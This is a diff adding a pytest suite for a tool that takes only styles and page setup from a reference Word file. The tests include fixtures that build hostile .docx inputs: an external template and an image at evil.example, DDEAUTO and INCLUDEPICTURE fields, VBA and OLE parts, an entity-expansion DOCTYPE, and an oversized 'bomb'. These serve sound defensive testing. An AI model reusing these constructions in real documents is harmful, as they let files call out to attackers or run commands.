@@ -1,0 +1,366 @@
+"""The looks of another Word file: taken where they are looks, and nothing else of it."""
+
+from __future__ import annotations
+
+import io
+import re
+import subprocess
+import zipfile
+from functools import cache
+from pathlib import Path
+
+import docx
+import pytest
+from docx.enum.style import WD_STYLE_TYPE
+from docx.shared import Cm, Pt, RGBColor
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from openxml_audit import OpenXmlValidator
+
+from antigraft_cli.documents.render import templates_folder
+from antigraft_cli.nodes import Cell, Paragraph, Run, Section, Table
+from antigraft_cli.writers.docx.looks import Looks, built_in_looks
+from antigraft_cli.writers.docx.package import styles_used, write_parts
+from antigraft_cli.writers.docx.page_setup import A4
+from antigraft_cli.writers.docx.reference import MAX_BYTES, read_reference
+from antigraft_cli.writers.docx.reference_styles import Styles
+from antigraft_cli.writers.docx.styles import USES
+from antigraft_cli.writers.docx.write import Properties, write
+from programs import need
+
+BASE = templates_folder() / "base.docx"
+BUILT_IN = built_in_looks(BASE)
+PLAIN = Properties("ชื่อ", "หน่วยงาน")
+PARAGRAPHS = tuple(
+    Paragraph(style, (Run("ข้อความ"),)) for style in ("h1.title", "p.title", "h1.title-page", "h1", "h2", "p.body")
+)
+TABLE = Table(
+    Paragraph("caption", (Run("ตาราง"),)),
+    (10.0, 14.7),
+    ((Cell((Run("ก"),), head=True), Cell((Run("ข"),), head=True)),),
+    ((Cell((Run("ค"),)), Cell((Run("✓", "tick"),), "center")),),
+    (),
+)
+BOOK = (
+    Section("cover", "portrait", "none", 0, PARAGRAPHS),
+    Section("years", "landscape", "digits", 1, (TABLE,)),
+    Section(
+        "sheets", "portrait", "digits", 0, (Paragraph("ol", (Run("ก"),), "๑)", 1), Paragraph("p", (Run("ข"),)))
+    ),
+)
+
+
+def read(file: bytes) -> tuple[Looks, Styles]:
+    looks, styles, problem = read_reference(io.BytesIO(file), BUILT_IN)
+    assert problem is None
+    assert looks is not None
+    assert styles is not None
+    return looks, styles
+
+
+def problem_of(file: bytes) -> str:
+    looks, styles, problem = read_reference(io.BytesIO(file), BUILT_IN)
+    assert (looks, styles) == (None, None)
+    assert problem
+    return problem.th
+
+
+@cache
+def base_book() -> bytes:
+    """A book of the built-in looks, such as an officer begins with."""
+    return write(BOOK, PLAIN, BUILT_IN)
+
+
+def restyled() -> bytes:
+    """That book, as an officer changes it in Word: page, fonts, sizes, colours."""
+    document = docx.Document(io.BytesIO(base_book()))
+    heading, body = document.styles["ปกใน"], document.styles["Body Text"]
+    assert heading.type == body.type == WD_STYLE_TYPE.PARAGRAPH
+    heading.font.size, heading.font.color.rgb = Pt(30), RGBColor(0, 0x70, 0xC0)
+    body.paragraph_format.first_line_indent = Cm(1.5)
+    for section in document.sections:
+        section.left_margin = section.right_margin = Cm(4)
+    saved = io.BytesIO()
+    document.save(saved)
+    return saved.getvalue()
+
+
+def parts(book: bytes) -> dict[str, str]:
+    with zipfile.ZipFile(io.BytesIO(book)) as archive:
+        return {name: archive.read(name).decode("utf-8", "replace") for name in archive.namelist()}
+
+
+def faults(book: bytes, folder: Path) -> list[str]:
+    (folder / "book.docx").write_bytes(book)
+    result = OpenXmlValidator().validate(str(folder / "book.docx"))
+    return [str(error) for error in result.errors]
+
+
+def changed(file: bytes, name: str, *pairs: tuple[str, str]) -> bytes:
+    """A Word file with texts of one part replaced, each of which must be there."""
+    found = {each: content.encode() for each, content in parts(file).items()}
+    text = found[name].decode()
+    for old, new in pairs:
+        assert old in text
+        text = text.replace(old, new)
+    return write_parts({**found, name: text.encode()})
+
+
+def test_the_built_in_base_as_reference_changes_nothing() -> None:
+    looks, styles = read(BASE.read_bytes())
+    assert (looks.page, looks.font, looks.size, styles.missing) == (A4, "TH SarabunPSK", 16.0, frozenset())
+    ours, theirs = docx.Document(io.BytesIO(base_book())), docx.Document(io.BytesIO(write(BOOK, PLAIN, looks)))
+    assert [each.style_id for each in theirs.styles] == [each.style_id for each in ours.styles]
+    assert theirs.element.xml == ours.element.xml
+
+
+def test_a_book_restyled_in_word_gives_its_looks_to_the_next(tmp_path: Path) -> None:
+    looks, styles = read(restyled())
+    assert styles.missing == frozenset()
+    book = write(BOOK, PLAIN, looks)
+    made = docx.Document(io.BytesIO(book))
+    heading, body = made.styles["ปกใน"], made.styles["Body Text"]
+    assert heading.type == body.type == WD_STYLE_TYPE.PARAGRAPH
+    assert (heading.font.size, heading.font.color.rgb) == (Pt(30), RGBColor(0, 0x70, 0xC0))
+    assert body.paragraph_format.first_line_indent == pytest.approx(Cm(1.5), abs=700)
+    for section in made.sections:
+        assert section.left_margin == pytest.approx(Cm(4), abs=700)
+    widths = [int(width) for width in re.findall('<w:gridCol w:w="([0-9]+)"/>', parts(book)["word/document.xml"])]
+    assert sum(widths) == pytest.approx(A4.height - 2 * 4 / 2.54 * 1440, abs=10)
+    assert faults(book, tmp_path) == []
+
+
+def test_a_book_saved_by_libreoffice_is_a_reference_still(tmp_path: Path) -> None:
+    office = need("soffice", "libreoffice-writer")
+    (tmp_path / "saved.docx").write_bytes(restyled())
+    profile = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"
+    command = [
+        office,
+        "--headless",
+        profile,
+        "--convert-to",
+        "docx:MS Word 2007 XML",
+        "--outdir",
+        str(tmp_path / "out"),
+    ]
+    subprocess.run([*command, str(tmp_path / "saved.docx")], check=True, capture_output=True)
+    looks, styles = read((tmp_path / "out" / "saved.docx").read_bytes())
+    book = write(BOOK, PLAIN, looks)
+    assert [id_ for id_ in styles_used(book) if id_ in styles.missing] == []
+    heading = docx.Document(io.BytesIO(book)).styles["ปกใน"]
+    assert heading.type == WD_STYLE_TYPE.PARAGRAPH
+    assert heading.font.size == Pt(30)
+    assert faults(book, tmp_path) == []
+
+
+def test_words_own_template_has_the_usual_styles_but_not_ours(tmp_path: Path) -> None:
+    saved = io.BytesIO()
+    docx.Document().save(saved)
+    looks, styles = read(saved.getvalue())
+    assert styles.missing == set(USES) - {
+        "Normal",
+        "BodyText",
+        "Title",
+        "Heading1",
+        "Heading2",
+        "Heading3",
+        "Heading4",
+        "Header",
+    }
+    assert (looks.font, looks.size) == ("Cordia New", 11.0)
+    assert faults(write(BOOK, PLAIN, looks), tmp_path) == []
+
+
+def test_styles_are_known_by_their_names_whatever_their_ids(tmp_path: Path) -> None:
+    other = changed(
+        base_book(),
+        "word/styles.xml",
+        ('"Heading1"', '"1"'),
+        ('"TitlePage"', '"a7"'),
+        ('"BodyText"', '"Heading1"'),
+    )
+    _, styles = read(other)
+    assert styles.missing == frozenset()
+    looks, _ = read(other)
+    xml = looks.parts["word/styles.xml"].decode()
+    assert xml.count('w:styleId="Heading1"') == 1
+    assert re.search('w:styleId="BodyText"><w:name w:val="Body Text"/>', xml)
+    assert faults(write(BOOK, PLAIN, looks), tmp_path) == []
+
+
+def test_what_a_style_is_based_on_comes_with_it_and_a_circle_is_cut(tmp_path: Path) -> None:
+    based = '<w:style w:type="paragraph" w:styleId="X"><w:name w:val="X"/><w:basedOn w:val="Y"/><w:rPr><w:i/></w:rPr></w:style>'
+    circle = '<w:style w:type="paragraph" w:styleId="Y"><w:name w:val="Y"/><w:basedOn w:val="X"/></w:style>'
+    other = changed(
+        base_book(),
+        "word/styles.xml",
+        ('<w:name w:val="ปกใน"/><w:basedOn w:val="Normal"/>', '<w:name w:val="ปกใน"/><w:basedOn w:val="X"/>'),
+        ("</w:styles>", f"{based}{circle}</w:styles>"),
+    )
+    looks, _ = read(other)
+    xml = looks.parts["word/styles.xml"].decode()
+    assert re.findall('<w:name w:val="(Base.)"/>(<w:basedOn w:val="[^"]*"/>)?', xml) == [
+        ("Base1", '<w:basedOn w:val="Base2"/>'),
+        ("Base2", ""),
+    ]
+    assert faults(write(BOOK, PLAIN, looks), tmp_path) == []
+
+
+def test_fonts_of_the_theme_are_written_out() -> None:
+    theme = parts(base_book())["word/theme/theme1.xml"]
+    latin = '<a:latin typeface="TH SarabunPSK"/>'
+    other = changed(
+        changed(
+            base_book(),
+            "word/theme/theme1.xml",
+            (
+                '<a:cs typeface="TH SarabunPSK"/>',
+                '<a:cs typeface=""/><a:font script="Thai" typeface="Angsana New"/>',
+            ),
+            (latin, '<a:latin typeface="Calibri"/>'),
+        ),
+        "word/styles.xml",
+        ('w:ascii="TH SarabunPSK" w:hAnsi="TH SarabunPSK"', 'w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"'),
+        ('w:cs="TH SarabunPSK"', 'w:cstheme="minorBidi" w:cs="Cordia New"'),
+    )
+    looks, _ = read(other)
+    assert latin in theme
+    assert looks.font == "Angsana New"
+    assert 'w:ascii="Calibri" w:hAnsi="Calibri"' in looks.parts["word/styles.xml"].decode()
+
+
+def test_font_and_size_of_the_plan_reach_every_style_of_the_reference() -> None:
+    looks, _ = read(restyled())
+    xml = parts(write(BOOK, Properties("ก", "ข", "Sarabun", 8), looks))["word/styles.xml"]
+    assert "TH SarabunPSK" not in xml
+    heading = xml.partition('w:val="ปกใน"')[2].partition("</w:style>")[0]
+    assert re.findall('<w:sz w:val="([0-9]+)"/>', heading) == ["30"]
+
+
+def test_the_head_of_its_pages_is_taken_with_page_and_title_alone() -> None:
+    date = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DATE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>วันนี้</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
+    simple = '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "><w:r><w:t>7</w:t></w:r></w:fldSimple>'
+    head = f'<w:p><w:pPr><w:pStyle w:val="Header"/></w:pPr><w:r><w:t>หน้า </w:t></w:r>{simple}{date}</w:p>'
+    header = parts(base_book())["word/header1.xml"]
+    looks, _ = read(
+        changed(base_book(), "word/header1.xml", (header[header.index("<w:p>") : header.rindex("</w:hdr>")], head))
+    )
+    xml = looks.parts["word/header1.xml"].decode()
+    assert re.findall("<w:(?:instrText|t)[^>]*>([^<]*)<", xml) == ["หน้า ", " PAGE ", "1", "วันนี้"]
+
+
+def test_a_head_without_the_pages_number_is_not_taken() -> None:
+    looks, _ = read(changed(base_book(), "word/header1.xml", (" PAGE ", " DATE ")))
+    assert looks.parts["word/header1.xml"] == BUILT_IN.parts["word/header1.xml"]
+
+
+@pytest.mark.parametrize("width", ["100", "99999", "x", "-5", "๑๒๐๐๐"])
+def test_a_page_that_no_book_could_have_is_not_taken(width: str) -> None:
+    looks, _ = read(changed(base_book(), "word/document.xml", ('w:w="11906" w:h', f'w:w="{width}" w:h')))
+    assert looks.page == A4
+
+
+_EVIL = "evil.example"
+_HOSTILE = {
+    "word/_rels/settings.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
+    "word/vbaProject.bin": "evil.example macro",
+    "word/embeddings/oleObject1.bin": "evil.example ole",
+    "customXml/item1.xml": "<evil.example/>",
+    "word/footnotes.xml": "evil.example",
+}
+
+
+def hostile() -> bytes:
+    """A book with every way of reaching out that a Word file has."""
+    file = restyled()
+    remote = '<w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:imagedata xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId99"/></v:shape></w:pict></w:r>'
+    dde = '<w:r><w:instrText> DDEAUTO c:\\\\evil.example </w:instrText></w:r><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/x.png "><w:r><w:t>x</w:t></w:r></w:fldSimple>'
+    file = changed(file, "word/header1.xml", ("</w:p>", f"{remote}{dde}</w:p>"))
+    file = changed(
+        file,
+        "word/styles.xml",
+        (
+            '<w:name w:val="ปกใน"/>',
+            '<w:name w:val="ปกใน"/><w:evil w:val="evil.example"/><x:y xmlns:x="urn:evil.example">evil.example</x:y>',
+        ),
+        (
+            "<w:jc w:val",
+            '<w:numPr><w:numId w:val="77"/></w:numPr><w:jc x:evil="evil.example" xmlns:x="urn:evil.example" w:val',
+        ),
+    )
+    external = '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="http://evil.example/i.png" TargetMode="External"/>'
+    file = changed(file, "word/_rels/document.xml.rels", ("</Relationships>", f"{external}</Relationships>"))
+    return write_parts({name: content.encode() for name, content in (parts(file) | _HOSTILE).items()})
+
+
+def test_nothing_of_a_hostile_reference_is_left_in_the_book(tmp_path: Path) -> None:
+    assert sum(_EVIL in content for content in parts(hostile()).values()) >= 8
+    looks, _ = read(hostile())
+    book = write(BOOK, PLAIN, looks)
+    made = parts(book)
+    assert list(made) == list(parts(base_book()))
+    assert [
+        name for name, content in made.items() if "evil" in content or "External" in content or "numPr" in content
+    ] == []
+    assert made["[Content_Types].xml"] == parts(base_book())["[Content_Types].xml"]
+    assert faults(book, tmp_path) == []
+
+
+def _with_entities(file: bytes) -> bytes:
+    doctype = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]><w:styles'
+    return changed(file, "word/styles.xml", ("<w:styles", doctype))
+
+
+def _bomb(file: bytes) -> bytes:
+    saved = io.BytesIO()
+    with zipfile.ZipFile(io.BytesIO(file)) as old, zipfile.ZipFile(saved, "w", zipfile.ZIP_DEFLATED) as new:
+        for name in old.namelist():
+            new.writestr(name, b" " * (MAX_BYTES + 1) if name == "word/styles.xml" else old.read(name))
+    return saved.getvalue()
+
+
+def _without(file: bytes, name: str) -> bytes:
+    return write_parts({each: content.encode() for each, content in parts(file).items() if each != name})
+
+
+@pytest.mark.parametrize(
+    ("file", "message"),
+    [
+        (b"", "ไม่ใช่ไฟล์ Word (.docx)"),
+        (b"%PDF-1.7", "ไม่ใช่ไฟล์ Word (.docx)"),
+        (b"PK", "เสียหายหรืออ่านไม่ได้"),
+        (b"\xd0\xcf\x11\xe0" + bytes(600), "เป็นไฟล์ .doc แบบเก่าหรือมีรหัสผ่าน บันทึกใหม่เป็น .docx ที่ไม่มีรหัสผ่าน"),
+        (write_parts({"a.txt": b""}), "ไม่ใช่ไฟล์ Word (.docx)"),
+        (BASE.read_bytes()[:3000], "เสียหายหรืออ่านไม่ได้"),
+        (_without(BASE.read_bytes(), "word/styles.xml"), "ไม่ใช่ไฟล์ Word (.docx)"),
+        (_with_entities(BASE.read_bytes()), "เสียหายหรืออ่านไม่ได้"),
+        (_bomb(BASE.read_bytes()), "ใหญ่เกิน 32 MiB"),
+        (b"PK" + bytes(MAX_BYTES), "ใหญ่เกิน 32 MiB"),
+    ],
+    ids=["empty", "pdf", "cut", "doc", "zip", "truncated", "no styles", "entities", "bomb", "large"],
+)
+def test_what_is_no_reference_is_refused_with_the_reason(file: bytes, message: str) -> None:
+    assert problem_of(file) == message
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.data())
+def test_a_damaged_reference_gives_looks_or_a_reason(data: st.DataObject) -> None:
+    xml = parts(base_book())["word/styles.xml"]
+    at = data.draw(st.integers(0, len(xml) - 1))
+    length = data.draw(st.integers(0, 40))
+    insert = data.draw(
+        st.sampled_from(["", "<", ">", "/>", '"', "w:", "x", "9", "&amp;", "</w:style>", "<w:style>"])
+    )
+    styles = (xml[:at] + insert + xml[at + length :]).encode()
+    file = write_parts(
+        {name: content.encode() for name, content in parts(base_book()).items()} | {"word/styles.xml": styles}
+    )
+    looks, _, problem = read_reference(io.BytesIO(file), BUILT_IN)
+    assert (looks is None) == (problem is not None)
+    if looks is not None:
+        assert docx.Document(io.BytesIO(write(BOOK, PLAIN, looks))).paragraphs
+
+
+def test_the_same_reference_makes_the_same_bytes() -> None:
+    assert write(BOOK, PLAIN, read(restyled())[0]) == write(BOOK, PLAIN, read(restyled())[0])
